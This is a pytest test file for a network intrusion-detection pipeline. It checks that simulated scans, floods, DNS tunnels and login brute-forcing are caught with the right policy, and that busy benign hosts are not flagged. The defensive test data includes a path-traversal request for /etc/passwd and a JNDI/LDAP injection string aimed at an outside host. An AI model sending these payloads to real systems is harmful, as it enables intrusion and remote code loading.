"""Attacks and busy benign hosts in general, from packets to detections: nothing here was in any capture."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterable, Iterator

import numpy as np
import pytest

from cybermesh import policy
from cybermesh.detect.engines.rule_file import load, shipped_paths
from cybermesh.detect.pipeline import build, latest
from cybermesh.telemetry.packets import ACK, FIN, PSH, SYN, URG
from cybermesh.telemetry.windows import EVENT_COUNTS
from cybermesh.telemetry.windows_sliding import CAPACITY
from tests.detect import traffic
from tests.detect.traffic import ATTACKER, VICTIM
from tests.telemetry.packet_batches import Packet, batch, blocks

RULES = load(shipped_paths())
T = 1_700_000_000.0
FORGED = [f"{a}.{b}.9.1" for a in range(20, 60) for b in range(100)]

ATTACKS = {
    "syn scan of 1000 ports": (lambda: traffic.syn_scan(T, range(1, 1001)), "port_scan", "drop"),
    "fast scan of 100 ports": (lambda: traffic.syn_scan(T, range(1, 101), 0.002), "port_scan", "drop"),
    "polite scan, a probe every 0.4 s": (lambda: traffic.syn_scan(T, range(1, 101), 0.4), "port_scan", "drop"),
    "sneaky scan, a probe every 15 s": (lambda: traffic.syn_scan(T, range(1, 41), 15), "port_scan", None),
    "connect scan where every port is open": (lambda: traffic.connect_scan_of_open_host(T, range(1, 101)), "port_scan", "drop"),
    "FIN scan": (lambda: traffic.flag_scan(T, FIN, range(1, 101)), "port_scan", None),
    "NULL scan": (lambda: traffic.flag_scan(T, 0, range(1, 101)), "port_scan", None),
    "Xmas scan": (lambda: traffic.flag_scan(T, FIN | PSH | URG, range(1, 101)), "port_scan", None),
    "ACK scan": (lambda: traffic.ack_scan(T, range(1, 101)), "port_scan", None),
    "UDP scan": (lambda: traffic.udp_scan(T, range(1, 101)), "port_scan", None),
    "IP protocol scan": (lambda: traffic.protocol_scan(T, range(20, 46)), "port_scan", None),
    "one port of a /24": (lambda: traffic.sweep(T, 445, range(1, 255)), "port_scan", None),
    "scan under a forged address": (lambda: traffic.forged_scan(T, range(1, 1001)), "port_scan", None),
    "a port every four minutes": (lambda: traffic.syn_scan(T, range(11, 25), 240), "port_scan", None),
    "a host every ninety seconds": (lambda: traffic.sweep(T, 22, range(1, 40), 90), "port_scan", None),
    "DNS tunnel below one domain": (
        lambda: traffic.dns(T, traffic.tunnel_names(100, 50, "tunnel.test"), 16),
        "dns_tunnel",
        None,
    ),
    "generated domains": (lambda: traffic.dns(T, (f"{x}.test" for x in traffic.noise(60, 12)), rcode=3), "botnet", None),
    "slow HTTP": (lambda: traffic.slow_headers(T, 150, 6), "dos", "drop"),
    "HTTP flood": (lambda: traffic.web_requests(T, [b"GET /"] * 6_000, b"200 OK", 0.002), "dos", None),
    "connection flood": (lambda: traffic.tiny_sessions(T, 8_000, 500, 443), "dos", None),
    "reflected answers of 50 resolvers": (lambda: traffic.reflection(T, 10_000, 2_000, 50), "ddos", "rate_limit"),
    "web scan": (lambda: traffic.web_requests(T, [b"GET /%d" % n for n in range(300)], b"404 Not Found"), "web_attack", None),
    "web exploits": (
        lambda: traffic.web_requests(T, [b"GET /?f=../../../etc/passwd"] * 12, b"200 OK"),
        "web_attack",
        "drop",
    ),
    "web login guesses": (lambda: traffic.web_requests(T, [b"POST /login"] * 60, b"200 OK", 0.5), "brute_force", None),
    "ping sweep of a /24": (lambda: traffic.ping_sweep(T, range(1, 255), 12), "port_scan", None),
    "SYN flood": (lambda: traffic.syn_flood(T, 20_000, 5_000), "dos", "rate_limit"),
    "SYN flood with 4,000 forged sources": (lambda: traffic.syn_flood(T, 20_000, 5_000, FORGED), "ddos", "rate_limit"),
    "SYN flood with forged sources, a new port each": (
        lambda: traffic.onto_ports(traffic.syn_flood(T, 20_000, 5_000, FORGED), range(1, 20_001)),
        "ddos",
        "rate_limit",
    ),
    "UDP flood with 32 forged sources": (
        lambda: traffic.forged(traffic.udp_flood(T, 3_520, 1_500), FORGED[:32]),
        "ddos",
        None,
    ),
    "UDP flood, changing ports": (lambda: traffic.udp_flood(T, 20_000, 5_000), "dos", "rate_limit"),
    "UDP flood, one port": (lambda: traffic.udp_flood(T, 100_000, 20_000, fixed=True), "dos", "rate_limit"),
    "ping flood": (lambda: traffic.ping_flood(T, 10_000, 1_000), "dos", "rate_limit"),
    "FIN flood": (lambda: traffic.flag_flood(T, 20_000, 3_000, FIN), "dos", "rate_limit"),
    "ACK flood that is reset": (lambda: traffic.flag_flood(T, 20_000, 3_000, ACK, reset=True), "dos", "rate_limit"),
    "ACK flood with 4,000 forged sources": (
        lambda: traffic.forged(traffic.flag_flood(T, 40_000, 4_000, ACK), FORGED),
        "ddos",
        "rate_limit",
    ),
    "large UDP flood, random ports": (lambda: traffic.udp_flood_on_random_ports(T, 20_000, 3_000), "dos", "rate_limit"),
    "a worm on a port of its own": (lambda: traffic.worm(T, 2_000, 20_000, 6, 0.02), "port_scan", None),
    "a worm in single datagrams": (lambda: traffic.worm(T, 2_000, 1434, 17, 0.01), "port_scan", None),
    "ssh passwords sprayed": (lambda: traffic.spraying(T, 20, 3), "brute_force", "drop"),
    "smb guesses": (lambda: traffic.guesses(T, 60, 445, 0.5, sent=900, got=1100), "brute_force", "drop"),
    "ssh guesses": (lambda: traffic.guesses(T, 40, 22, 1.0), "brute_force", "drop"),
    "ssh guesses on another port": (
        lambda: traffic.guesses(T, 40, 902, 1.0, greeting=b"SSH-2.0-x\r\n"),
        "brute_force",
        "drop",
    ),
    "ftp guesses, refusals readable": (
        lambda: traffic.guesses(T, 40, 21, 1.0, greeting=b"530 Login incorrect.\r\n", sent=30, got=60),
        "brute_force",
        "drop",
    ),
    "ftp guesses, payload not captured": (lambda: traffic.guesses(T, 40, 21, 1.0, sent=40, got=150), "brute_force", None),
    "telnet guesses": (lambda: traffic.guesses(T, 40, 23, 1.0, sent=60, got=200), "brute_force", "drop"),
    "remote desktop guesses": (lambda: traffic.guesses(T, 40, 3389, 1.0, sent=3000, got=4000), "brute_force", "drop"),
    "vnc guesses": (
        lambda: traffic.guesses(T, 40, 5901, 1.0, greeting=b"RFB 003.008\n", sent=40, got=60),
        "brute_force",
        "drop",
    ),
    "smtp guesses": (
        lambda: traffic.guesses(T, 40, 587, 1.0, greeting=b"535 5.7.8 Error\r\n", sent=80, got=90),
        "brute_force",
        "drop",
    ),
}

BENIGN: dict[str, Callable[[], Iterable[Packet]]] = {
    "a web server with a thousand clients": lambda: traffic.web_server(T, 1000),
    "a resolver": lambda: traffic.resolver(T, 5000),
    "a monitor of fifty hosts": lambda: traffic.monitor(T, 3),
    "a browser that opens a hundred connections": lambda: traffic.browser(T),
    "health checks": lambda: traffic.health_checks(T, 120),
    "a gateway with two hundred users": lambda: traffic.nat_gateway(T),
    "a client of a stopped service": lambda: traffic.dead_service(T),
    "a capture that begins in the middle": lambda: traffic.server_in_the_middle(T),
    "a deployment tool over ssh": lambda: traffic.deployment(T),
    "passive FTP": lambda: traffic.passive_ftp(T),
    "a server whose client restarted": lambda: traffic.forgetful_client(T),
    "a monitor that logs in over ssh": lambda: traffic.ssh_monitor(T),
    "a monitor that exchanges keys sixteen times a minute": lambda: traffic.key_exchanges(T, 60, 60 / 16),
    "clients that wait for a stuck server": lambda: traffic.waiting_clients(T),
    "a mail server's block list": lambda: traffic.dns(T, traffic.block_list(400), rcode=3, gap=0.1),
    "reverse look-ups": lambda: traffic.dns(T, traffic.reverse_names(200), 12, rcode=3, gap=0.1),
    "a page with many hosts": lambda: traffic.dns(T, [f"static-{n % 12}.eu-west.cdn.example" for n in range(60)], gap=0.05),
    "a P2P client's calls": lambda: traffic.p2p_calls(T),
    "a server that resets what the capture does not show": lambda: traffic.resetting_server(T),
    "a user who mistypes a password in a form": lambda: traffic.web_requests(T, [b"POST /login"] * 5, b"200 OK", 5),
    "a client with stale links": lambda: traffic.web_requests(T, [b"GET /old.png"] * 50, b"404 Not Found", 0.5),
    "a backup over ssh": lambda: traffic.backup(T),
    "traceroute": lambda: traffic.traceroute(T),
    "a P2P client on the web's ports": lambda: traffic.p2p_client(T),
    "a mail server": lambda: traffic.mail_server(T),
    "a browser with broken IPv6 and QUIC": lambda: traffic.broken_ipv6(T),
    "an hour of answers to searches": lambda: traffic.answers_to_searches(T, 60),
    "a victim to whom others answer": lambda: traffic.stray_answers(T),
    "a pod's search list": lambda: traffic.dns(
        T, [f"api{n % 15}.vendor{n % 9}.example.eu-west-1.compute.internal" for n in range(80)], rcode=3, gap=0.5
    ),
    "a one-way video stream": lambda: traffic.video_stream(T),
}


def run(packets: Iterable[Packet], size: int = 16_384) -> list[object]:
    pipeline = build(RULES)
    whole = batch(traffic.ordered(packets))
    found = [detection for block in blocks(whole, size) for detection in pipeline.feed(block)]
    found += pipeline.finish()
    assert {counters.failures for counters in pipeline.detector.counters.values()} == {0}
    return latest(found)


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_found_with_its_type_source_and_remedy(name: str) -> None:
    packets, kind, action = ATTACKS[name]
    found = run(packets())
    assert [detection.type for detection in found] == [kind]
    detection = found[0]
    if kind == "ddos":
        assert detection.entity in FORGED
        assert detection.victim == VICTIM
    else:
        assert detection.entity == ATTACKER
    if action is None:
        assert detection.policy is None
        return
    assert detection.policy is not None
    spec = policy.parse(detection.policy)
    assert spec.action == action
    target = VICTIM if action == "rate_limit" else ATTACKER
    assert [str(network) for network in spec.networks()] == [f"{target}/32"]
    assert spec.guardrails.ttl_seconds == 900
    if action == "rate_limit" and not any(word in name for word in ("ping", "new port", "reflected", "random ports")):
        assert [port.first for port in spec.target.ports] == [53 if "UDP" in name else 80]


@pytest.mark.parametrize("name", BENIGN)
def test_a_busy_benign_host_is_left_alone(name: str) -> None:
    assert run(BENIGN[name]()) == []


def test_attacks_are_found_among_benign_traffic_and_nobody_else_is_accused() -> None:
    def mixed() -> Iterator[Packet]:
        yield from traffic.web_server(T, 300)
        yield from traffic.browser(T)
        yield from traffic.resolver(T, 1000)
        yield from traffic.syn_scan(T + 1, range(1, 201))
        yield from traffic.guesses(T + 5, 40, 22, 0.5)

    found = run(mixed())
    assert {(detection.type, detection.entity) for detection in found} == {("port_scan", ATTACKER), ("brute_force", ATTACKER)}


@pytest.mark.parametrize("size", [1, 97, 5000])
def test_detections_do_not_depend_on_the_block_size(size: int) -> None:
    packets = traffic.ordered(
        [*traffic.syn_scan(T, range(1, 300)), *traffic.guesses(T + 2, 20, 22, 0.3), *traffic.web_server(T, 30)]
    )
    assert run(packets, size) == run(packets)


def test_a_long_flood_is_one_alert_with_a_growing_count() -> None:
    pipeline = build(RULES)
    reports = []
    for second in range(20):
        reports += pipeline.feed(batch(traffic.syn_flood(T + second, 2_000, 2_000, FORGED[:500])))
    reports += pipeline.finish()
    assert len({detection.alert_id for detection in reports}) == 1
    assert len(reports) <= 5
    assert 38_000 <= reports[-1].count <= 42_000
    assert [detection.revision for detection in reports] == list(range(len(reports)))
    assert sum(detection.policy is not None for detection in reports) == 1


def test_a_flood_of_a_million_packets_is_one_alert_in_bounded_memory() -> None:
    pipeline = build(RULES)
    chunk = batch(Packet(T, ATTACKER, VICTIM, 1024, 80, 6, SYN) for _ in range(20_000))
    rng = np.random.default_rng(7)
    reports = []
    for number in range(50):
        sources = chunk.src.copy()
        sources[:, 12:] = rng.integers(1, 200, (len(chunk), 4), np.uint8)
        times = chunk.ts_us + number * 200_000 + np.arange(len(chunk)) * 10
        reports += pipeline.feed(dataclasses.replace(chunk, src=sources, ts_us=times))
    reports += pipeline.finish()
    (last,) = latest(reports)
    assert (last.type, last.victim, last.port) == ("ddos", VICTIM, 80)
    assert 900_000 <= last.count <= 1_100_000
    assert len(reports) <= 6
    assert pipeline.windows.strangers > 900_000  # counted at the victim, with a place of their own for none
    assert pipeline.windows.entities <= 2 * CAPACITY  # of five tables


def test_every_accused_gets_its_policy_though_they_came_too_many_at_once() -> None:
    pipeline = build(RULES)
    scanners = [f"198.51.100.{host}" for host in range(1, 41)]
    scans = [p for n, source in enumerate(scanners) for p in traffic.syn_scan(T, range(1, 151), 0.2, source, f"10.0.1.{n}")]
    reports = [r for block in blocks(batch(traffic.ordered(scans)), 500) for r in pipeline.feed(block)] + pipeline.finish()
    proposed = [report for report in reports if report.policy is not None]
    assert sorted(report.entity for report in proposed) == sorted(scanners)
    seconds = [report.last_us // 1_000_000 for report in proposed]
    assert max(seconds.count(second) for second in seconds) <= 20
    assert len(reports) <= 5 * len(scanners)  # and nobody is reported every second until then


def test_nobody_is_blocked_for_a_scan_that_comes_from_many_addresses_at_once() -> None:
    decoys = ["192.0.2.7", "192.0.2.8", "192.0.2.9"]
    found = run(traffic.decoy_scan(T, range(1, 200), decoys))
    assert {(detection.type, detection.entity) for detection in found} == {("port_scan", each) for each in (ATTACKER, *decoys)}
    assert [detection.policy for detection in found] == [None] * 4


def test_an_innocent_decoy_who_goes_on_with_his_work_is_not_blocked() -> None:
    innocent = "192.0.2.7"
    later = [packet for n in range(10) for packet in traffic.session(T + 10 + n, innocent, VICTIM, 50_000 + n, 443)]
    found = run([*traffic.decoy_scan(T, range(1, 100), [innocent]), *later])
    assert {detection.entity for detection in found} == {ATTACKER, innocent}
    assert [detection.policy for detection in found] == [None, None]


def test_nobody_is_blocked_for_a_flood_on_random_ports_under_his_address() -> None:
    found = run(traffic.forged_flood_on_random_ports(T, 20_000, 5_000))
    assert ("drop", ATTACKER) not in {(str(d.policy["action"]), d.entity) for d in found if d.policy is not None}
    assert VICTIM in {detection.victim for detection in found}


def test_an_accusation_becomes_a_policy_when_the_accused_has_proved_to_be_there() -> None:
    pipeline = build(RULES)
    silent = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T, range(5000, 5100)))), prompt=True)
    assert [(each.type, each.policy) for each in silent] == [("port_scan", None)]
    found = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T + 1.1, range(20, 90)))), prompt=True) + pipeline.finish()
    (proposed,) = [detection for detection in found if detection.policy is not None]
    assert proposed.alert_id == silent[0].alert_id
    assert proposed.policy is not None
    assert proposed.policy["target"]["ips"] == [ATTACKER]  # type: ignore[index]


def test_one_stray_time_from_the_future_keeps_no_alert_open() -> None:
    stray = [Packet(T + 10 * 86_400, ATTACKER, VICTIM, 40_000, 7, 6, 2)]
    pipeline = build(RULES)
    first = pipeline.feed(batch([*traffic.ordered(traffic.syn_scan(T, range(1, 101))), *stray]))
    second = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T + 1_000, range(1, 101))))) + pipeline.finish()
    assert len({detection.alert_id for detection in first + second}) == 2
    assert max(detection.last_us for detection in first + second) <= (T + 1_002) * 1e6


def test_a_clock_that_was_set_back_begins_new_alerts() -> None:
    pipeline = build(RULES)
    found = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T, range(1, 301)))))
    found += pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T - 86_400, range(1, 301))))) + pipeline.finish()
    assert len({detection.alert_id for detection in found}) == 2


def test_prompt_evaluation_reports_before_the_hop_ends() -> None:
    pipeline = build(RULES)
    first = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T, range(1, 60), 0.002))), prompt=True)
    assert [detection.type for detection in first] == ["port_scan"]
    assert first[0].decisive_us <= round((T + 0.2) * 1e6)
    again = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T + 0.2, range(60, 90), 0.002))), prompt=True)
    assert all(detection.revision > 0 for detection in again)


def test_a_capture_without_any_duration_is_judged() -> None:
    flood = [Packet(T, "0.0.0.0", "255.255.255.255", 68, 67, 17, payload=b"d" * 240) for _ in range(10_000)]
    found = run(flood)
    assert [(detection.type, detection.entity, detection.count, detection.policy) for detection in found] == [
        ("dos", "0.0.0.0", 10_000, None)
    ]


def evidence_rules(packets: Iterable[Packet]) -> set[str]:
    """The ids of the rules that any report rests on."""
    pipeline = build(RULES)
    reports = pipeline.feed(batch(traffic.ordered(packets))) + pipeline.finish()
    found = [finding for report in reports for finding in report.evidence["findings"]]  # type: ignore[attr-defined]
    return {str(finding["rule"]) for finding in found}


# For each shipped rule, traffic that must be reported because of it: without the rule its test fails.
TRAFFIC_OF = {
    "flood-syn": lambda: traffic.syn_flood(T, 4_000, 2_000),
    "flood-syn-slow": lambda: traffic.syn_flood(T, 150, 20),
    "flood-syn-distributed": lambda: traffic.syn_flood(T, 4_000, 2_000, FORGED),
    "flood-tcp": lambda: traffic.flag_flood(T, 4_000, 1_000, FIN),
    "flood-tcp-distributed": lambda: traffic.forged(traffic.flag_flood(T, 8_000, 2_000, ACK), FORGED),
    "flood-udp-ports": lambda: traffic.udp_flood_on_random_ports(T, 6_000, 1_000),
    "flood-udp": lambda: traffic.udp_flood(T, 4_000, 1_000),
    "flood-udp-slow": lambda: traffic.udp_flood(T, 200, 20),
    "flood-udp-fixed": lambda: traffic.udp_flood(T, 8_000, 1_000, fixed=True),
    "flood-udp-distributed": lambda: traffic.forged(traffic.udp_flood(T, 6_000, 2_000), FORGED),
    "flood-icmp": lambda: traffic.ping_flood(T, 500, 100),
    "flood-icmp-distributed": lambda: traffic.forged(traffic.ping_flood(T, 4_000, 1_000), FORGED),
    "flood-icmp-large": lambda: traffic.ping_flood(T, 100, 10, b"p" * 1000),
    "flood-dhcp": lambda: [Packet(T, "0.0.0.0", "255.255.255.255", 68, 67, 17, payload=b"d" * 240) for _ in range(4_000)],
    "scan-vertical": lambda: traffic.syn_scan(T, range(1, 31)),
    "scan-vertical-slow": lambda: traffic.syn_scan(T, range(1, 41), 14),
    "scan-stealth": lambda: traffic.flag_scan(T, FIN, range(1, 13)),
    "scan-udp": lambda: traffic.udp_scan(T, range(1, 41)),
    "scan-horizontal": lambda: traffic.sweep(T, 445, range(1, 60)),
    "scan-horizontal-slow": lambda: traffic.sweep(T, 445, range(1, 60), 8),
    "scan-vertical-hours": lambda: traffic.syn_scan(T, range(11, 25), 240),
    "scan-horizontal-hours": lambda: traffic.sweep(T, 22, range(1, 40), 90),
    "scan-protocols": lambda: traffic.protocol_scan(T, range(20, 46)),
    "dns-tunnel-domain": lambda: traffic.dns(T, traffic.tunnel_names(30, 50, "tunnel.test")),
    "dns-tunnel-types": lambda: traffic.dns(T, traffic.tunnel_names(15, 12, "tunnel.test"), 10),
    "dns-tunnel-direct": lambda: traffic.dns(T, [f"{a}.{a[::-1]}" for a in traffic.noise(30, 40)], 16),
    "dns-exfiltration": lambda: traffic.dns(T, traffic.tunnel_names(30, 110, "x.test")),
    "dns-generated-domains": lambda: traffic.dns(T, (f"{label}.test" for label in traffic.noise(40, 12)), rcode=3),
    "slow-http": lambda: traffic.slow_headers(T, 60, 4),
    "flood-http": lambda: traffic.web_requests(T, [b"GET /"] * 4_000, b"200 OK", 0.002),
    "flood-http-sessions": lambda: traffic.tiny_sessions(T, 4_000, 500, 443),
    "flood-reflection": lambda: traffic.reflection(T, 3_000, 1_000, 50),
    "web-scan": lambda: traffic.web_requests(T, [b"GET /%d" % n for n in range(100)], b"404 Not Found"),
    "web-scan-sessions": lambda: traffic.tiny_sessions(T, 200, 10, 443),
    "web-scan-unanswered": lambda: traffic.web_requests(T, [b"GET /%d" % n for n in range(250)], b""),
    "web-guessing": lambda: traffic.web_requests(T, [b"GET /admin"] * 30, b"401 Unauthorized", 0.5),
    "web-form-guessing": lambda: traffic.web_requests(T, [b"POST /wp-login.php"] * 20, b"200 OK", 0.5),
    "web-exploit": lambda: traffic.web_requests(T, [b"GET /?x=${jndi:ldap://203.0.113.9/a}"], b"200 OK"),
    "scan-icmp-sweep": lambda: traffic.ping_sweep(T, range(1, 60), 5),
    "brute-ssh": lambda: traffic.guesses(T, 20, 22, 1.0),
    "brute-clear-text": lambda: traffic.guesses(T, 8, 21, 1.0, greeting=b"530 no\r\n", sent=30, got=60),
    "brute-ssh-spray": lambda: traffic.spraying(T, 20, 2),
    "brute-smb": lambda: traffic.guesses(T, 40, 445, 0.5, sent=900, got=1100),
    "brute-ftp-sessions": lambda: traffic.guesses(T, 30, 21, 1.0, sent=40, got=150),
    "brute-terminal": lambda: traffic.guesses(T, 20, 23, 1.0, sent=60, got=200),
    "brute-mail-sessions": lambda: traffic.guesses(T, 150, 993, 0.3),
}


def test_every_shipped_rule_has_traffic_that_is_reported_because_of_it() -> None:
    others = {rule.id for rule in RULES.rules if rule.names & EVENT_COUNTS or rule.unless_known}  # those are in test_reports
    assert set(TRAFFIC_OF) == {rule.id for rule in RULES.rules} - others


@pytest.mark.parametrize("rule_id", TRAFFIC_OF)
def test_a_rule_reports_the_traffic_it_is_for(rule_id: str) -> None:
    assert rule_id in evidence_rules(TRAFFIC_OF[rule_id]())
